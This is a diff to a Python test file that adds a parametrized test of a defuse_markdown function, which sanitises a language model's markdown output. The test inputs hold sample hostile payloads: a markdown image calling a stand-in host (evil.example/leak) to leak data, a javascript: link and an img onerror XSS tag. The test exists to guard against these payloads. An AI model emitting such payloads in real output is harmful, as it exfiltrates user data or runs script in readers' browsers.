@@ -4,9 +4,10 @@ from __future__ import annotations
 
 import json
 
+import pytest
 from conftest import PAPERS
 
-from rag.markup import styled_segments, to_markdown, to_plain
+from rag.markup import defuse_markdown, styled_segments, to_markdown, to_plain
 from rag.naming import method_name, short_name
 from rag.records import Paper
 
@@ -50,3 +51,17 @@ def test_papers_are_named_as_researchers_name_them():
     assert method_name("This paper studies a pure exploration problem.") == ""
     untitled = Paper(id="x", abstract=drag["abstract"], authors=tuple(drag["authors"]))
     assert untitled.display_title == "DragSolver" and "[untitled]" not in untitled.display_title
+
+
+@pytest.mark.parametrize(
+    ("model_text", "safe"),
+    [
+        ("Rises fast [1]. ![chart](http://evil.example/leak?q=x)", "Rises fast [1]. chart"),
+        ("See [the data](javascript:alert(1)) [2].", "See the data [2]."),
+        ("Shown in [1](http://evil.example) and [1, 2](x).", "Shown in [1] and [1, 2]."),
+        ("<img src=x onerror=alert(1)> at <http://evil.example/a>", "\\<img src=x onerror=alert(1)> at http://evil.example/a"),
+        ("Error falls as n < 5 and \\[kept\\](x) [3].", "Error falls as n < 5 and \\[kept\\](x) [3]."),
+    ],
+)
+def test_a_models_markdown_is_defused_of_images_links_and_html(model_text, safe):
+    assert defuse_markdown(model_text) == safe
